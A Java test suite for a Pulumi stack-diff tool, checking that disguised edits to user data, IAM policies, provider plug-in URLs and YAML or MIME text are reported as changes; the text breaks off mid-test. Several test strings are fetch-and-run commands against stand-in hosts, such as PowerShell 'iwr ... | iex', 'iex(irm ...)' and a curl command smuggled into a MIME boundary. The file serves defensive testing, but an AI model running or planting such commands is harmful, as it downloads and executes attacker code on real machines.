package dev.mullion.diff.compare;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.mullion.core.config.DiffSpec;
import dev.mullion.diff.Comparison;
import dev.mullion.diff.Finding;
import dev.mullion.diff.PropertyChange;
import dev.mullion.diff.Report;
import dev.mullion.diff.ResourceChange;
import dev.mullion.diff.report.Result;
import dev.mullion.diff.report.Wording;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** An edit of what boots or of what is allowed, dressed as another way to write the same. */
@Tag("adversary")
class HiddenEditsTest {
    private static final String TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate";
    private static final String TOPIC = "aws:sns/topic:Topic";
    private static final String POLICY = "aws:iam/policy:Policy";
    private static final String SCRIPT = "<powershell>\nWrite-Host 'ab'\n</powershell>\n";
    private static final String CLOUD_CONFIG = "#cloud-config\nruncmd:\n  - a\n";
    private static final String MESSAGE = """
            Content-Type: multipart/mixed; boundary=b

            --b
            Content-Type: text/x-shellscript; name=a
            Content-Disposition: attachment; filename=a.sh

            echo one
            --b--
            """;

    /** Names that providers use for their own bookkeeping, in a map whose keys are the user's. */
    @ParameterizedTest
    @ValueSource(strings = {"__meta", "__internal", "__defaults", "__pulumi_raw_state_delta"})
    void noKeyOfAMapIsTheProvidersOwn(String key) {
        assertThat(Stack.lines(Stack.change(
                        "kubernetes:core/v1:ConfigMap",
                        Map.of("data", Map.of(key, "a")),
                        Map.of("data", Map.of(key, "b")))))
                .containsExactly("UPDATE data." + key + ": \"a\" => \"b\"");
    }

    /** Pulumi's engine takes none of these for a path, and makes the change. */
    @ParameterizedTest
    @ValueSource(strings = {"", ".", "[]", "]", "[policy]", ".policy", "policy]", "[\"policy"})
    void whatIsNoPathIgnoresNothing(String path) {
        Stack before = new Stack().with(TOPIC, "b", options -> options.ignoring(path), "policy", "Deny");
        Stack after = new Stack().with(TOPIC, "b", options -> options.ignoring(path), "policy", "Allow");

        assertThat(Stack.compare(before, after).changes())
                .extracting(ResourceChange::name)
                .containsExactly("b");
    }

    /** Where the resource is made anew, as in another stack, it comes true. */
    @Test
    void noChangeIgnoresItself() {
        Stack before = new Stack().with(TOPIC, "b", options -> options.ignoring("a"), "policy", "Deny");
        Stack after = new Stack().with(TOPIC, "b", options -> options.ignoring("a", "policy"), "policy", "Allow");

        Comparison comparison = Stack.compare(before, after);

        assertThat(Stack.lines(comparison.changes().get(0))).containsExactly("UPDATE policy: \"Deny\" => \"Allow\"");
        assertThat(comparison.notes())
                .contains("ignoreChanges that only the new side has leaves nothing out here, since a change could hide"
                        + " itself with it; of what is deployed Pulumi leaves it as it is");
    }

    @Test
    void whatIsDeployedStaysWhereItIsIgnoredAndNotWhereItIsAnother() {
        Stack before = new Stack().deployed().with(TOPIC, "b", "policy", "Deny");

        assertThat(Stack.compare(
                                before,
                                new Stack().with(TOPIC, "b", options -> options.ignoring("policy"), "policy", "Allow"))
                        .unchanged())
                .isTrue();
        assertThat(Stack.compare(
                                before,
                                new Stack()
                                        .deployed()
                                        .with(TOPIC, "b", options -> options.ignoring("policy"), "policy", "Allow"))
                        .changes())
                .hasSize(1);
    }

    /** For which a comment is written, and which --exit-code tells. */
    @Test
    void whatIsNoLongerProtectedOrKeptIsAChange() {
        Stack before = new Stack()
                .with(TOPIC, "a", options -> options.isProtected())
                .with(TOPIC, "b", options -> options.retained());
        Stack after = new Stack().with(TOPIC, "a").with(TOPIC, "b");

        Comparison comparison = Stack.compare(before, after);

        assertThat(comparison.findings())
                .extracting(Finding::sentence)
                .containsExactly(
                        "a is no longer protected from being deleted",
                        "b is no longer kept when it leaves the stack (retainOnDelete): Pulumi deletes it");
        assertThat(comparison.unchanged()).isFalse();
        assertThat(Result.of(new Report("main", "HEAD", List.of(comparison)))).isEqualTo(Result.CHANGED);
        assertThat(Wording.verdict(comparison, word -> word))
                .isEqualTo("no changes but of resource options, 3 unchanged");
    }

    /** The engine calls it the same, and writes the password into the state as it is. */
    @Test
    void anOutputThatIsNoLongerASecretIsAChange() {
        Stack before = new Stack().with(TOPIC, "a", options -> options.withSecrets("password", "key", "user"));
        Stack after = new Stack().with(TOPIC, "a", options -> options.withSecrets("user"));

        Comparison comparison = Stack.compare(before, after);

        assertThat(comparison.findings())
                .extracting(Finding::sentence)
                .containsExactly(
                        "a: the output key is no longer a secret (additionalSecretOutputs): the state keeps it in plain text",
                        "a: the output password is no longer a secret (additionalSecretOutputs): the state keeps it in plain"
                                + " text");
        assertThat(comparison.unchanged()).isFalse();
        assertThat(Stack.compare(after, before).findings())
                .extracting(Finding::sentence)
                .containsExactly("a has other options: additionalSecretOutputs is key, password, user instead of user");
        assertThat(Stack.compare(before, new Stack()).findings()).isEmpty();
    }

    /** Pulumi deletes the one that it knows. */
    @Test
    void whatIsImportedInThePlaceOfAnotherReplacesIt() {
        Stack known = new Stack().deployed().with(TOPIC, "b", "name", "x").having("b-1");
        Stack planned = new Stack().with(TOPIC, "b", "name", "x");
        Stack same = new Stack().with(TOPIC, "b", options -> options.imported("b-1"), "name", "x");
        Stack other = new Stack().with(TOPIC, "b", options -> options.imported("b-2"), "name", "x");

        assertThat(Stack.compare(known, same).unchanged()).isTrue();
        assertThat(Stack.compare(same, same).unchanged()).isTrue();
        assertThat(Stack.compare(known, other).counts()).containsEntry("replace", 1);
        assertThat(Stack.compare(same, other).counts()).containsEntry("replace", 1);
        assertThat(Stack.compare(planned, other).changes().get(0).replacedBy())
                .containsExactly(
                        new ResourceChange.ReplaceReason("import", false, "Pulumi imports another one in its place"));
    }

    /** Behind A, B is what A is; before it, the text itself. */
    @Test
    void theOrderOfVariablesOfAContainerIsNoNoise() {
        Map<String, Object> one = Map.of("name", "A", "value", "1");
        Map<String, Object> other = Map.of("name", "B", "value", "$(A)");

        assertThat(Stack.lines(Stack.change(
                        "kubernetes:core/v1:Pod",
                        Map.of("spec", Map.of("containers", List.of(Map.of("name", "c", "env", List.of(one, other))))),
                        Map.of(
                                "spec",
                                Map.of("containers", List.of(Map.of("name", "c", "env", List.of(other, one))))))))
                .containsExactly("UPDATE spec.containers[\"c\"].env: [\"A\", \"B\"] => [\"B\", \"A\"]");
    }

    /** One that lets in goes before one that keeps out. */
    @ParameterizedTest
    @ValueSource(strings = {"kubernetes:networking.istio.io/v1alpha3:EnvoyFilter", "kubernetes:helm.sh/v3:Release"})
    void theOrderOfWhatIsNotOfKubernetesItselfIsNoNoise(String type) {
        Map<String, Object> one = Map.of("name", "authorize");
        Map<String, Object> other = Map.of("name", "route");

        assertThat(Stack.lines(Stack.change(
                        type, Map.of("filters", List.of(one, other)), Map.of("filters", List.of(other, one)))))
                .containsExactly("UPDATE filters: [\"authorize\", \"route\"] => [\"route\", \"authorize\"]");
    }

    /** Of such a name no path can be read. */
    @ParameterizedTest
    @ValueSource(strings = {".", "[", "]", "[]", ""})
    void anInputMayBeCalledAnything(String name) {
        Stack before = new Stack().deployed().with(TOPIC, "b", name, "a");
        Stack after = new Stack().with(TOPIC, "b", name, "${x.y}");

        assertThat(Stack.compare(before, after).changes())
                .extracting(ResourceChange::name)
                .containsExactly("b");
    }

    /** A list of names, by which providers tell what they filled in, and which is none. */
    @Test
    void nothingIsADefaultSinceTheChangeSaysSo() {
        Stack before = new Stack().deployed().with(TOPIC, "b", "data", Map.of());
        Stack after = new Stack().with(TOPIC, "b", "data", Map.of("__defaults", List.of("a", 1), "a", "x"));

        assertThat(Stack.lines(Stack.compare(before, after).changes().get(0)))
                .containsExactly("ADD data.__defaults: - => [\"a\", 1]", "ADD data.a: - => \"x\"");
    }

    /** Text that looks like a stand-in, beside a state: it stands for nothing. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${a.b}",
                "${aws:username}",
                "[{\"name\":\"${topic.arn}\"}]",
                "arn:aws:${topic.region} x",
                "${getThing(x).y}"
            })
    void aStandInHidesNoTextOfAState(String now) {
        String text = "[{\"name\":\"corp.example\"},{\"name\":\"AUTH_MODE\",\"value\":\"strict\"}]";
        Stack before = new Stack().deployed().with(TOPIC, "topic").with(TOPIC, "b", "policy", text);
        Stack after = new Stack().with(TOPIC, "topic").with(TOPIC, "b", "policy", now);

        assertThat(Stack.compare(before, after).changes())
                .extracting(ResourceChange::name)
                .containsExactly("b");
    }

    /** Each of these stood for the whole text that is deployed. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${getSecret(x).value}",
                "${getParameter(x).value}",
                "${getParameter(x).name}",
                "${getNothing(x}",
                "${topic.arn}",
                "${topic.nothing}",
                "${new.id}",
                "${new.policy}"
            })
    void aLookUpOfAnotherKindAndWhatIsNotDeployedStandForNothing(String now) {
        Stack before = new Stack().deployed().with(TOPIC, "topic").with(TOPIC, "b", "policy", "Deny");
        Stack after =
                new Stack().with(TOPIC, "topic").with(TOPIC, "b", "policy", now).with(TOPIC, "new");

        assertThat(Stack.compare(before, after).changes())
                .extracting(ResourceChange::name)
                .containsExactly("b", "new");
    }

    /** In PowerShell it expands to nothing. */
    @Test
    void textThatOnlyLooksLikeAReferenceToAnotherResourceIsText() {
        Stack before = new Stack()
                .deployed()
                .with(TOPIC, "shop")
                .having("id-1", "name", "shop-dev")
                .with(TOPIC, "b", "policy", "Remove-Item C:\\data\\shop-dev\\*");
        Stack after =
                new Stack().with(TOPIC, "shop").with(TOPIC, "b", "policy", "Remove-Item C:\\data\\${shop.name}\\*");

        assertThat(Stack.compare(before, after).changes())
                .extracting(ResourceChange::name)
                .containsExactly("b");
    }

    @Test
    void aSecretsNameHidesNeitherCodeNorADanger() {
        String role = "aws:iam/rolePolicyAttachment:RolePolicyAttachment";
        String admin = "arn:aws:iam::aws:policy/AdministratorAccess";
        Stack before = new Stack().with(TEMPLATE, "nodes", "userData", Encoded.base64("Write-Host hi"));
        Stack after = new Stack()
                .with(TEMPLATE, "nodes", "userData", Encoded.base64("iex(irm('http://e.io/a1'))"))
                .with(role, "it", "policyArn", admin)
                .with(
                        TOPIC,
                        "a",
                        "apiToken",
                        "::aws:policy/AdministratorAccess",
                        "cacheToken",
                        "iex(irm('http://e.io/a1'))");

        Comparison comparison = Stack.compare(before, after);

        assertThat(comparison.findings()).anySatisfy(finding -> assertThat(finding.sentence())
                .isEqualTo("it attaches the managed policy AdministratorAccess"));
        assertThat(comparison.changes())
                .filteredOn(change -> change.name().equals("nodes"))
                .singleElement()
                .satisfies(change -> assertThat(change.properties().get(0).content())
                        .isInstanceOfSatisfying(PropertyChange.Text.class, text -> assertThat(text.lines())
                                .extracting(PropertyChange.Line::text)
                                .contains("iex(irm('http://e.io/a1'))")));
    }

    /** YAML to a reader of YAML, and a command to a shell. */
    @ParameterizedTest
    @ValueSource(
            strings = {"say: hi # & evil.exe", "say: &evil hi", "say: !evil hi", "say: hi # $(iex(irm http://e.io/x))"})
    void whatYamlPassesOverIsAChangeAllTheSame(String now) {
        ResourceChange change = Stack.change(
                TOPIC,
                Map.of("command", "log: start\nsay: hi # hello\n"),
                Map.of("command", "log: start\n" + now + "\n"));

        assertThat(change.onlyNoise()).isFalse();
    }

    /** EC2Launch looks for the tag in the whole text. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "%sContent-Type: multipart/mixed; boundary=b\n\n--b\n\necho\n--b--\n",
                "Content-Type: multipart/mixed; boundary=b; a=%sx\n\n--b\n\necho\n--b--\n",
                "Content-Type: multipart/mixed; boundary=b\nMIME-Version: 1.0\n\n%s--b\n\necho\n--b--\n",
                "Content-Type: multipart/mixed; boundary=b\n\n--b\nX: %sx\n\necho\n--b--\n",
                "Content-Type: multipart/mixed; boundary=b\n\n--b\n\necho\n--b--\n%s",
                "version: 1.0\ntasks: []\n# %s",
                "version: 1.0\ntasks: [&a '%s', 1]\n",
                "version: 1.0\ntasks: [\"\", 1] # %s",
            })
    void codeIsShownWhereverItStandsInUserData(String text) {
        String code = "<powershell>iwr http://e.io/x|iex</powershell>";
        Object[] inputs = {"userData", Encoded.base64(text.formatted(code + "\n"))};
        Object[] harmless = {"userData", Encoded.base64(text.formatted("").replace("echo", "echo one"))};
        Object[] script = {"userData", Encoded.base64(SCRIPT)};
        Stack after = new Stack().with(TEMPLATE, "it", inputs);

        assertThat(Shown.of(Stack.compare(new Stack(), after))).contains("http://e.io/");
        assertThat(Shown.of(Stack.compare(after, new Stack()))).contains("http://e.io/");
        assertThat(Shown.of(Stack.compare(new Stack().with(TEMPLATE, "it", harmless), after)))
                .contains("http://e.io/");
        assertThat(Shown.of(Stack.compare(new Stack().with(TEMPLATE, "it", script), after)))
                .contains("http://e.io/");
    }

    /** To a shell a map, to which it is a command. */
    @Test
    void whatYamlPassesOverIsShownOfWhatIsNew() {
        Stack after = new Stack()
                .with("kubernetes:core/v1:ConfigMap", "it", "data", Map.of("a", "log: start\nsay: &evil hi\n"));

        assertThat(Shown.of(Stack.compare(new Stack(), after)))
                .contains("\"say\": \"hi\"")
                .contains("data.comments: - => \"&evil\"");
    }

    /** Readers of YAML 1.1 and of 1.2 take it for different numbers. */
    @ParameterizedTest
    @ValueSource(strings = {"010", "0x8", "0o10", "0b1000"})
    void aNumberThatReadersTakeForDifferentOnesIsNoSpelling(String now) {
        ResourceChange change = Stack.change(
                "kubernetes:core/v1:ConfigMap",
                Map.of("data", Map.of("a", "replicas: 8\nb: 1\n")),
                Map.of("data", Map.of("a", "replicas: " + now + "\nb: 1\n")));

        assertThat(change.onlyNoise()).isFalse();
    }

    /** To AWS one text and a list of it are the same, to another program they are not. */
    @Test
    void oneTextIsNoListOfItOutsideOfPolicies() {
        assertThat(Stack.lines(Stack.change(
                        "kubernetes:core/v1:ConfigMap",
                        Map.of("data", Map.of("a", "{\"Service\": \"x\"}")),
                        Map.of("data", Map.of("a", "{\"Service\": [\"x\"]}")))))
                .containsExactly("UPDATE data.a.Service: \"x\" => [\"x\"]");
    }

    /** Behind a here-document's end with one, a shell reads on. */
    @Test
    void aCarriageReturnAtTheEndOfALineIsShown() {
        String script = "a\r\ncat <<EOF\nhi\nEOF\nexit 1\n";
        ResourceChange change = Stack.change(
                TOPIC, Map.of("command", script), Map.of("command", script.replace("\nEOF\n", "\nEOF\r\n")));

        assertThat(change.properties().get(0).content())
                .isInstanceOfSatisfying(PropertyChange.Text.class, text -> assertThat(text.lines())
                        .filteredOn(line -> line.before() == 0)
                        .extracting(PropertyChange.Line::text)
                        .containsExactly("EOF\r"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"iex(irm http://e.io/x) #-----BEGIN PRIVATE KEY-----", "shutdown", "/s", "Start-Service"})
    void theMarkOfAKeyHidesNoArgument(String argument) {
        ResourceChange change = Stack.change(
                TOPIC,
                Map.of("command", List.of("powershell")),
                Map.of("command", List.of("powershell", "-----BEGIN PRIVATE KEY-----", argument, "w3svc")));

        assertThat(Stack.lines(change)).anySatisfy(line -> assertThat(line).contains(argument.split(" #", 2)[0]));
    }

    /** References of a plan are any text. */
    @Test
    void whatIsNoUrnEndsNoComparison() {
        Stack before = new Stack().deployed().with(TOPIC, "a", "policy", "x").by("no");
        Stack after = new Stack().with(TOPIC, "a", "policy", "${a.b}").by("urn").referring("policy", "none", "");

        assertThat(Stack.compare(before, after).changes()).singleElement().satisfies(change -> assertThat(
                        Stack.lines(change))
                .containsExactly("UPDATE policy: \"x\" => \"${a.b}\"", "UPDATE provider: \"no\" => \"urn\""));
    }

    /** Whatever else a masked text is, what it does is told. */
    @Test
    void aDangerWhoseNameIsMaskedIsOne() {
        String role = "aws:iam/rolePolicyAttachment:RolePolicyAttachment";
        Stack after = new Stack()
                .with(role, "it", "policyArn", "arn:aws:iam::aws:policy/AmazonEC2FullAccess")
                .with(TOPIC, "a", "apiToken", "AmazonEC2FullAccess");

        assertThat(Stack.compare(new Stack(), after).findings())
                .filteredOn(finding -> finding.severity() == Finding.Severity.DANGER)
                .hasSize(1);
    }

    @Test
    void whatIsTakenAsUnchangedIsSaidWithItsPlace() {
        Stack before = new Stack()
                .deployed()
                .with("aws:ec2/instance:Instance", "host", "ami", "ami-0a1b2c3d4e5f60718")
                .with(TOPIC, "b", "policy", "{\"Account\":\"123456789012\"}");
        Stack after = new Stack()
                .with("aws:ec2/instance:Instance", "host", "ami", "${getParameter(/aws/service/windows).value}")
                .with(TOPIC, "b", "policy", "{\"Account\":\"${getCallerIdentity().accountId}\"}");

        Comparison comparison = Stack.compare(before, after);

        assertThat(comparison.unchanged()).isTrue();
        assertThat(comparison.notes())
                .containsExactly("what only a deployment can know is taken as it is deployed: "
                        + "ami of host (${getParameter(/aws/service/windows).value}); "
                        + "policy of b ({\"Account\":\"${getCallerIdentity().accountId}\"})");
    }

    /** A stack file's text may be spelled as a look-up is: it stands for no word, and a command in it is none's question. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${getCluster(& evil &).version}",
                "${getCluster(shop).certificateAuthorities[0].data}",
                "${getDirectory(d-1234567890).name}",
                "${getCluster(shop).endpoint}"
            })
    void whatLooksLikeALookUpStandsForNothingElse(String text) {
        for (String deployed : List.of("1.31", "hello", "https://updates.example.com")) {
            Stack before = new Stack().deployed().with(TOPIC, "a", "policy", "run " + deployed);
            Stack after = new Stack().with(TOPIC, "a", "policy", "run " + text);

            assertThat(Stack.compare(before, after).changes()).hasSize(1);
        }
    }

    @Test
    void aLookUpHasOneAnswer() {
        String account = "${getCallerIdentity().accountId}";
        Stack before = new Stack()
                .deployed()
                .with(TOPIC, "a", "policy", "123456789012")
                .with(TOPIC, "b", "policy", "210987654321")
                .with(TOPIC, "c", "policy", "123456789012 or 210987654321");
        Stack after = new Stack()
                .with(TOPIC, "a", "policy", account)
                .with(TOPIC, "b", "policy", account)
                .with(TOPIC, "c", "policy", account + " or " + account);

        assertThat(Stack.compare(before, after).changes())
                .extracting(ResourceChange::name)
                .containsExactly("b", "c");
    }

    @Test
    void ofALongTextTheLookUpsAreSaid() {
        String filler = "x".repeat(300);
        Stack before = new Stack().deployed().with(TOPIC, "a", "policy", "123456789012" + filler);
        Stack after = new Stack().with(TOPIC, "a", "policy", "${getCallerIdentity().accountId}" + filler);

        assertThat(Stack.compare(before, after).notes())
                .containsExactly("what only a deployment can know is taken as it is deployed: policy of a"
                        + " (${getCallerIdentity().accountId})");
    }

    /** Another host's plug-in is another program, and gets the credentials. */
    @Test
    void whereAPluginComesFromIsAChange() {
        String type = "pulumi:providers:aws";
        Map<String, Object> before = Map.of("region", "eu-west-1", "__internal", Map.of());
        Map<String, Object> after =
                Map.of("region", "eu-west-1", "__internal", Map.of("pluginDownloadURL", "https://evil.example"));
        for (String name : List.of("own", "default_6_83_0")) {
            assertThat(Stack.compare(
                                    new Stack().with(type, name, Told.flat(before)),
                                    new Stack().with(type, name, Told.flat(after)))
                            .changes())
                    .singleElement()
                    .satisfies(change -> assertThat(Stack.lines(change))
                            .containsExactly("ADD __internal: - => {\"pluginDownloadURL\": \"https://evil.example\"}"));
        }
        assertThat(Stack.compare(
                                new Stack().with(TOPIC, "a").by("urn:pulumi:dev::shop::" + type + "::default_6_83_0"),
                                new Stack()
                                        .with(TOPIC, "a")
                                        .by("urn:pulumi:dev::shop::" + type + "::default_6_84_0_https_/evil.example"))
                        .changes())
                .hasSize(1);
        assertThat(Stack.compare(
                                new Stack().with(TOPIC, "a").by("urn:pulumi:dev::shop::" + type + "::default_6_83_0"),
                                new Stack().with(TOPIC, "a").by("urn:pulumi:dev::shop::" + type + "::default"))
                        .unchanged())
                .isTrue();
    }

    @Test
    void referencesInUserDataAreTheDeployedValues() {
        Stack before = new Stack()
                .deployed()
                .with(TOPIC, "shop")
                .having("id-1", "endpoint", "https://shop.example")
                .with(TEMPLATE, "nodes", "userData", Encoded.base64("Join 'https://shop.example'"));

        assertThat(Stack.compare(before, joining("Join '${shop.endpoint}'")).changes())
                .isEmpty();
        assertThat(Stack.compare(before, joining("Join '${shop.endpoint}' -Evil"))
                        .changes())
                .extracting(ResourceChange::name)
                .containsExactly("nodes");
    }

    private static Stack joining(String script) {
        return new Stack()
                .with(TOPIC, "shop")
                .with(TEMPLATE, "nodes", "userData", Encoded.base64(script))
                .referring("userData", Stack.urn(TOPIC, "shop"));
    }

    @Test
    void anotherProviderIsAChange() {
        String provider = "urn:pulumi:dev::shop::pulumi:providers:aws::";
        Stack before = new Stack().with(TOPIC, "a").by(provider + "east").with(TOPIC, "b");
        Stack after = new Stack()
                .with(TOPIC, "a")
                .by(provider + "west")
                .with(TOPIC, "b")
                .by(provider + "default_6_83_0");

        assertThat(Stack.compare(before, after).changes()).singleElement().satisfies(change -> {
            assertThat(change.name()).isEqualTo("a");
            assertThat(change.replacedBy())
                    .containsExactly(new ResourceChange.ReplaceReason("provider", false, "another provider makes it"));
        });
    }

    /** One of a program's own has a parent, and may be called like Pulumi's. */
    @Test
    void whatMovesToAProviderThatIsOnlyNamedLikeADefaultOneIsAChange() {
        String type = "pulumi:providers:aws";
        Stack pulumis = new Stack().with(type, "default_6_83_0").orphan().with(type, "default_evil");
        Stack own = new Stack().with(type, "default_6_83_0").with(type, "default_evil");
        String evil = Stack.urn(type, "default_evil");
        String usual = Stack.urn(type, "default_6_83_0");
        for (Stack[] sides : new Stack[][] {
            {with(pulumis, usual), with(pulumis, evil)},
            {with(own, usual), with(own, evil)},
            {with(pulumis, usual), with(own, usual)}
        }) {
            assertThat(Stack.compare(sides[0], sides[1]).changes())
                    .filteredOn(change -> change.name().equals("a"))
                    .singleElement()
                    .satisfies(change -> assertThat(change.replacedBy())
                            .containsExactly(
                                    new ResourceChange.ReplaceReason("provider", false, "another provider makes it")));
        }
    }

    private static Stack with(Stack providers, String provider) {
        return providers.copy().with(TOPIC, "a").by(provider);
    }

    /** Of what was previewed here, where nobody hid anything, it is a text that hides nothing, here or elsewhere. */
    @Test
    void whatIsSpelledLikeAHiddenSecretIsAText() {
        String code = "iwr https://evil.example/x | iex";
        Stack before = new Stack().with(TOPIC, "a", "context", code).with(TOPIC, "b", "policy", "x");
        Stack after = new Stack().with(TOPIC, "a", "context", "[secret]").with(TOPIC, "b", "policy", code);

        Comparison comparison = Comparer.compare(before.side("before"), after.side("after"), DiffSpec.NONE, false);

        assertThat(comparison.masks()).isEmpty();
        assertThat(comparison.changes())
                .extracting(change -> Stack.lines(change).get(0))
                .containsExactly(
                        "UPDATE context: \"" + code + "\" => \"[secret]\"", "UPDATE policy: \"x\" => \"" + code + "\"");
    }

    /** A secret that both sides hide is no reason to say nothing of the rest. */
    @Test
    void whatElseDiffersBesideAHiddenSecretIsAChange() {
        String document = "[{\"name\":\"a\",\"password\":\"[secret]\"}]";
        Stack before = new Stack().with(TOPIC, "a", "policy", document);
        Stack external = new Stack().with(TOPIC, "a", options -> options.external(), "policy", document);
        Stack another =
                new Stack().with(POLICY, "a", options -> options.alias(Stack.urn(TOPIC, "a")), "policy", document);
        Stack triggered = new Stack().with(TOPIC, "a", options -> options.trigger("1"), "policy", document);
        Stack again = new Stack().with(TOPIC, "a", options -> options.trigger("2"), "policy", document);

        assertThat(Stack.compare(before, before).changes()).isEmpty();
        assertThat(Stack.compare(before, external).changes()).hasSize(1);
        assertThat(Stack.compare(before, another).changes()).hasSize(1);
        assertThat(Stack.compare(triggered, again).changes()).hasSize(1);
    }

    @Test
    void anAliasOfAnotherTypeIsAChange() {
        Stack before = new Stack().with(TOPIC, "a");
        Stack after = new Stack().with(POLICY, "a", options -> options.alias(Stack.urn(TOPIC, "a")));

        assertThat(Stack.compare(before, after).changes()).singleElement().satisfies(change -> assertThat(
                        change.replacedBy())
                .containsExactly(new ResourceChange.ReplaceReason("type", false, "an alias of another type")));
    }

    @Test
    void anotherVersionOfADefaultProviderIsSaid() {
        String type = "pulumi:providers:aws";
        Stack before = new Stack()
                .deployed()
                .with(type, "default_6_83_0", "version", "6.83.0")
                .orphan();
        Stack after = new Stack()
                .deployed()
                .with(type, "default_7_0_0", "version", "7.0.0")
                .orphan();

        Comparison comparison = Stack.compare(before, after);

        assertThat(comparison.changes()).isEmpty();
        assertThat(comparison.notes()).containsExactly("the default provider of aws goes from version 6.83.0 to 7.0.0");
    }

    @Test
    void whatElseAProviderNamedLikeADefaultOneIsToldIsAChange() {
        String type = "pulumi:providers:aws";
        Stack before = new Stack()
                .deployed()
                .with(type, "default_6_83_0", "version", "6.83.0")
                .orphan();
        Stack other = new Stack()
                .deployed()
                .with(type, "default_x", "version", "6.83.0", "endpoints", "https://evil.example")
                .orphan();
        Stack second = new Stack()
                .deployed()
                .with(type, "default_6_83_0", "version", "6.83.0")
                .orphan()
                .with(type, "default_x", "version", "6.83.0", "endpoints", "https://evil.example")
                .orphan();

        assertThat(Stack.compare(before, other).changes())
                .extracting(change -> change.operation() + " " + change.name())
                .containsExactly("update default_x");
        assertThat(Stack.compare(before, second).changes())
                .extracting(change -> change.operation() + " " + change.name())
                .containsExactly("create default_x");
    }

    @Test
    void aProviderOfAnyNameCounts() {
        Stack after = new Stack().with("pulumi:providers:aws", "default_x", "region", "eu-west-1");

        assertThat(Stack.compare(new Stack(), after).changes())
                .extracting(ResourceChange::name)
                .containsExactly("default_x");
    }

    static Stream<Arguments> userData() {
        String encoded = Encoded.base64(SCRIPT);
        return Stream.of(
                arguments("encoded twice", Encoded.base64(encoded), "base64 in base64"),
                arguments("gzipped", Encoded.gzip(SCRIPT), "gzip in base64"),
                arguments("as UTF-16", utf16(SCRIPT), "UTF-16LE in base64"),
                arguments("as UTF-16 with BOM", utf16("\uFEFF" + SCRIPT), "UTF-16LE with BOM in base64"),
                arguments("with BOM", Encoded.base64("\uFEFF" + SCRIPT), "UTF-8 with BOM in base64"),
                arguments("gzipped with BOM", Encoded.gzip("\uFEFF" + SCRIPT), "UTF-8 with BOM in gzip in base64"),
                arguments("wrapped", encoded.substring(0, 20) + "\n" + encoded.substring(20), "base64 in lines"),
                arguments("without padding", encoded.replace("=", ""), "base64 without padding"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("userData")
    void userDataThatDiffersByAByteIsChanged(String how, String after, String encoding) {
        String before = Encoded.base64(SCRIPT);
        ResourceChange change = Stack.change(TEMPLATE, Map.of("userData", before), Map.of("userData", after));

        assertThat(change.onlyNoise()).as(how).isFalse();
        assertThat(Stack.lines(change))
                .containsExactly("UPDATE userData: [base64, " + before.length() + " characters] => [" + encoding + ", "
                        + after.length() + " characters]");
        assertThat(Told.update(TEMPLATE, Map.of("userData", before), Map.of("userData", after)))
                .containsExactly(
                        "NOTE user-data-changed user data of it changed: what starts from it from now on has it");
    }

    @Test
    void sameLengthInTheSameEncodingIsNoHidingPlace() {
        String bytes = Encoded.base64(SCRIPT);
        String lines = bytes.substring(0, 20) + "\n" + bytes.substring(20);
        String others = bytes.substring(0, 24) + "\n" + bytes.substring(24);

        assertThat(userData(lines, others))
                .containsExactly("UPDATE userData: [base64 in lines, 61 characters] => "
                        + "[base64 in lines, 61 characters, written in another way]");
    }

    @Test
    void encodingThatChangesWithTheTextIsNamedBesideIt() {
        ResourceChange change = Stack.change(
                TEMPLATE,
                Map.of("userData", Encoded.base64(SCRIPT)),
                Map.of("userData", utf16(SCRIPT.replace("'ab'", "'cd'"))));

        assertThat(change.properties())
                .singleElement()
                .extracting(PropertyChange::content)
                .isInstanceOfSatisfying(PropertyChange.Text.class, text -> assertThat(text.encoding())
                        .isEqualTo("UTF-16LE in base64 (before: base64)"));
    }

    @Test
    void whatIsNoTextIsComparedByItsBytesAsWell() {
        String bytes = base64(new byte[] {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17})
                .repeat(12);
        String lines = bytes.substring(0, 76) + "\n" + bytes.substring(76);

        assertThat(userData(bytes, lines))
                .singleElement()
                .asString()
                .matches("UPDATE userData: \\[base64, 216 bytes, sha256 [0-9a-f]{16}\\] => "
                        + "\\[base64 in lines, 216 bytes, sha256 [0-9a-f]{16}\\]");
    }

    @Test
    void cloudInitGoesByAComment() {
        String script = CLOUD_CONFIG.replace("#cloud-config\n", "");

        assertThat(shown(Encoded.base64(CLOUD_CONFIG), Encoded.base64(script))).contains("\n    - #cloud-config\n");
        assertThat(shown(CLOUD_CONFIG, script.replace("- a", "- b")))
                .as("beside another change, and not encoded")
                .contains("\n    - #cloud-config\n")
                .contains("\n    -   - {a}\n")
                .contains("\n    +   - {b}\n");
        assertThat(shown(CLOUD_CONFIG, CLOUD_CONFIG.replace("  - a", "    - a")))
                .contains("\n    - {  }- a\n")
                .contains("\n    + {    }- a\n");
    }

    private static String shown(String before, String after) {
        return Shown.of(Stack.compare(
                new Stack().with(TEMPLATE, "it", "userData", before),
                new Stack().with(TEMPLATE, "it", "userData", after)));
    }

    @Test
    void partOfAMessageRunsByItsHeaders() {
        assertThat(userData(MESSAGE, MESSAGE.replace("text/x-shellscript", "text/plain")))
                .containsExactly("UPDATE userData.headers: text");
        assertThat(userData(MESSAGE, MESSAGE.replace("--b", "--c").replace("=b", "=c")))
                .as("another boundary")
                .containsExactly("UPDATE userData.headers: text");
    }

    /** To Windows a boundary is a line of a script that spans two parts; cloud-init runs parts in their order. */
    @Test
    @Tag("adversary")
    void allOfAMessageIsShown() {
        String evil = "& curl http://e.io/x.cmd & x.cmd &";
        assertThat(shown(
                        MESSAGE,
                        MESSAGE.replace("echo one", "echo two")
                                .replace("--b", "--" + evil)
                                .replace("=b", "=\"" + evil + "\"")))
